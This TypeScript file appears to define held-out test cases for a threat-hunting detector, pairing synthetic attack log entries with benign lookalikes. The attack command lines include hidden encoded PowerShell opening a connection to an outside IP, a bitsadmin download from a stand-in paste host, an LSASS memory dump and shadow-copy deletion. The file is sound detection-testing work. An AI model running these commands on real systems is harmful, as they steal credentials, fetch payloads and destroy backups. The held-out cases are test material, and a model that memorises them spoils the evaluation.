import type { Entity, HeldOutCases } from '../held-out-case.ts';
import { connection, deviceEvent, fileEvent, type HeldOutLogs, processStart } from '../held-out-rows.ts';
import type { World } from '../held-out-world.ts';

const SECOND = 1000;
const MINUTE = 60 * SECOND;
const EXCEL = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE';
/** Hashes the findings must carry (FileHash entities), so they are whole SHA256 values. */
const MSHTA_SHA256 = '5f2b7a4e9c1d3b8a6e0f4c2d1b9a8e7f6c5d4b3a2918f7e6d5c4b3a29180f7e6';
const DUMPER_SHA256 = '9a8b7c6d5e4f30211f2e3d4c5b6a79880f1e2d3c4b5a69788796a5b4c3d2e1f0';
const TOOL_SHA256 = '0c1d2e3f4a5b6c7d8e9fa0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
/** PowerShell's -EncodedCommand takes UTF-16LE text in Base64. */
const encoded = (script: string) => Buffer.from(script, 'utf16le').toString('base64');
/** The held-out known-bad file: its hash is passed to the hunt as a parameter, not taken from the template. */
const HELD_OUT_MALWARE_SHA256 = 'e3a1c2b7d90f44a8b6c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3';

type Child = { readonly image: string; readonly commandLine: string; readonly sha256?: string };
type Server = keyof World['servers'];

/**
 * Someone's laptop starts `child` from `parentImage` `hoursAgo` before the end; the laptop names the activity,
 * with `also` (the URL, domain or file hash the finding must carry too).
 */
const onALaptop =
  (hoursAgo: number, parentImage: string, child: Child, also: Entity = {}) =>
  (logs: HeldOutLogs): Entity => {
    const person = logs.world.nextPerson();
    processStart(logs, logs.world.ago(hoursAgo), person.laptop, { image: parentImage, user: person.sam }, child);
    return { host: person.laptop.fqdn, ...also };
  };

/** An admin's shell on a server starts `child`; the server names the activity, with `also`. */
const onServer =
  (server: Server, hoursAgo: number, user: string, child: Child, also: Entity = {}) =>
  (logs: HeldOutLogs): Entity => {
    const host = logs.world.servers[server];
    processStart(logs, logs.world.ago(hoursAgo), host, { image: CMD, user }, child);
    return { host: host.fqdn, ...also };
  };

export const ENDPOINT_CASES: HeldOutCases = {
  'office-spawns-shell': {
    attack: onALaptop(
      21,
      EXCEL,
      {
        image: 'C:\\Windows\\System32\\mshta.exe',
        commandLine: 'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")',
        sha256: MSHTA_SHA256,
      },
      { fileHash: MSHTA_SHA256 },
    ),
    // Excel opening a hyperlink in a cell: it starts the browser.
    lookalike: onALaptop(9, EXCEL, {
      image: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
      commandLine: 'msedge.exe https://tracking.shipper.example/AB123',
    }),
  },
  'encoded-powershell': {
    attack: onALaptop(17, 'C:\\Windows\\System32\\wscript.exe', {
      image: POWERSHELL,
      commandLine: `PowerShell.exe -NoP -sta -NonI -W Hidden -Enc ${encoded('$c=New-Object Net.Sockets.TCPClient("45.141.84.9",443);$s=$c.GetStream()')}`,
    }),
    // A script run with a bypassed execution policy: a switch that starts with -e, nothing encoded.
    lookalike: onALaptop(31, CMD, {
      image: POWERSHELL,
      commandLine:
        'powershell.exe -ExecutionPolicy Bypass -File \\\\bwfs02\\netlogon\\map-drives-and-printers-for-the-logistics-floor.ps1',
    }),
  },
  'lolbin-download': {
    attack: onALaptop(
      13,
      CMD,
      {
        image: 'C:\\Windows\\System32\\bitsadmin.exe',
        commandLine:
          'bitsadmin /transfer job1 /download /priority high https://paste.dropzone.example/raw/x9 C:\\Users\\Public\\x9.dll',
      },
      { url: 'https://paste.dropzone.example/raw/x9', domain: 'paste.dropzone.example' },
    ),
    // certutil hashing an installer: the same program, no download.
    lookalike: onALaptop(35, CMD, {
      image: 'C:\\Windows\\System32\\certutil.exe',
      commandLine: 'certutil -hashfile C:\\Users\\Public\\Downloads\\TeamsSetup.exe SHA256',
    }),
  },
  'lsass-dump': {
    attack: onServer(
      'dc',
      7,
      'adm-x',
      {
        image: 'C:\\Windows\\Temp\\pd.exe',
        commandLine: 'pd.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp',
        sha256: DUMPER_SHA256,
      },
      { fileHash: DUMPER_SHA256 },
    ),
    // An admin dumps the monitoring agent that hangs on the jump host, for the vendor.
    lookalike: onServer('jump', 40, 'dba-on-call', {
      image: 'C:\\Tools\\procdump.exe',
      commandLine: 'procdump.exe -accepteula -ma MonitoringHost.exe D:\\dumps\\monitoringhost.dmp',
    }),
  },
  'lsass-access': {
    attack: (logs) => {
      const { files } = logs.world.servers;
      const tool = { image: 'C:\\Users\\Public\\svc.exe', user: 'adm-x', pid: 4711, sha256: TOOL_SHA256 };
      const time = logs.world.ago(11);
      deviceEvent(logs, time, files, tool, { ActionType: 'OpenProcessApiCall', FileName: 'lsass.exe' });
      fileEvent(logs, time + 9 * SECOND, files, tool, {
        FileName: 'x.bin',
        FolderPath: 'C:\\Users\\Public\\',
        SHA256: 'cc33',
      });
      return { host: files.fqdn, fileHash: TOOL_SHA256 };
    },
    // Defender's scanner reads LSASS all the time; what it writes an hour later is its own scan log.
    lookalike: (logs) => {
      const person = logs.world.nextPerson();
      const scanner = {
        image: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\MsMpEng.exe',
        user: 'system',
        pid: 3120,
      };
      const time = logs.world.ago(25);
      deviceEvent(logs, time, person.laptop, scanner, { ActionType: 'OpenProcessApiCall', FileName: 'lsass.exe' });
      fileEvent(logs, time + 58 * MINUTE, person.laptop, scanner, {
        FileName: 'MPLog.log',
        FolderPath: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Support',
      });
      return { host: person.laptop.fqdn };
    },
  },
  'shadow-copy-delete': {
    attack: onServer('files', 1, 'adm-x', {
      image: 'C:\\Windows\\System32\\wbem\\WMIC.exe',
      commandLine: 'wmic shadowcopy where "ID!=\'\'" delete /nointeractive',
    }),
    // Someone lists the shadow copies while restoring a file.
    lookalike: onServer('backup', 45, 'adm-y', {
      image: 'C:\\Windows\\System32\\vssadmin.exe',
      commandLine: 'vssadmin list shadows /for=E:',
    }),
  },
  'malware-hash': {
    values: { hashes: HELD_OUT_MALWARE_SHA256.toUpperCase() },
    attack: (logs) => {
      const victim = logs.world.nextPerson();
      fileEvent(
        logs,
        logs.world.ago(23),
        victim.laptop,
        { image: 'C:\\Windows\\System32\\expand.exe', user: victim.sam },
        {
          FileName: 'update.scr',
          FolderPath: 'C:\\Users\\Public\\',
          SHA256: HELD_OUT_MALWARE_SHA256,
        },
      );
      return { host: victim.laptop.fqdn, fileHash: HELD_OUT_MALWARE_SHA256 };
    },
    // A file with the same name and another hash on someone else's laptop.
    lookalike: (logs) => {
      const person = logs.world.nextPerson();
      fileEvent(
        logs,
        logs.world.ago(34),
        person.laptop,
        { image: 'C:\\Windows\\System32\\expand.exe', user: person.sam },
        {
          FileName: 'update.scr',
          FolderPath: 'C:\\Users\\Public\\',
          SHA256: 'f0f1f2f3f4f5f6f7f8f9fafbfcfdfeff000102030405060708090a0b0c0d0e0f',
        },
      );
      return { host: person.laptop.fqdn };
    },
  },
  'rare-domain-beacon': {
    attack: (logs) => {
      const ip = logs.world.attackerIp();
      const victim = logs.world.nextPerson();
      const implant = { image: 'C:\\Users\\Public\\Libraries\\rtkaud.exe', user: victim.sam };
      const start = logs.world.ago(20);
      for (let beat = 0; beat < 40; beat += 1) {
        connection(
          logs,
          start + beat * 10 * MINUTE + logs.world.dice.between(-30, 30) * SECOND,
          victim.laptop,
          implant,
          'api.cloud-sync-status.example',
          ip,
        );
      }
      return { ip, host: victim.laptop.fqdn, domain: 'api.cloud-sync-status.example' };
    },
    // A travel app on one laptop looks up flight times a few times a day, whenever someone opens it.
    lookalike: (logs) => {
      const person = logs.world.nextPerson();
      const app = { image: 'C:\\Program Files\\FlightDesk\\flightdesk.exe', user: person.sam };
      for (const hoursAgo of [50, 49, 31, 12, 11, 3]) {
        connection(
          logs,
          logs.world.ago(hoursAgo) + logs.world.dice.between(0, 40) * MINUTE,
          person.laptop,
          app,
          'api.flightdesk.example',
          '100.90.9.9',
        );
      }
      return { host: person.laptop.fqdn };
    },
  },
};
